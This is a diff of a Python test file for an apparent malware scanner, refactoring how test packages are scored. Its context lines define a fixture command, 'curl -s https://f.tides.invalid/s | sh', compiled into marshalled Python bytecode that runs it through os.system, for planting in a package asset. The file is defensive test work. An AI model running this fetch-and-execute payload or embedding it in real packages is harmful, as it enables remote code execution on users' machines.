@@ -15,10 +15,9 @@ from collections.abc import Callable
 
 import pytest
 
-from scanner.report import ScanJob
-from scanner.scan import DEFAULT_THRESHOLD, scan
+from scanner.scan import DEFAULT_THRESHOLD
 from tests.campaigns.grid.ways import useful
-from tests.campaigns.judge import default_rules
+from tests.campaigns.judge import report_of
 
 COMMAND = b"curl -s https://f.tides.invalid/s | sh"
 BYTECODE = marshal.dumps(compile(f"import os\nos.system({COMMAND.decode()!r})", "x", "exec"))
@@ -52,8 +51,7 @@ def lambda_layer() -> dict[str, object]:
 
 
 def score(name: str, data: bytes) -> float:
-    built = useful({"tidesbatch/__init__.py": "", f"tidesbatch/assets/{name}": data})
-    return scan(ScanJob(filename=built.filename, data=built.data), default_rules()).score
+    return report_of(useful({"tidesbatch/__init__.py": "", f"tidesbatch/assets/{name}": data})).score
 
 
 RUNNERS = (
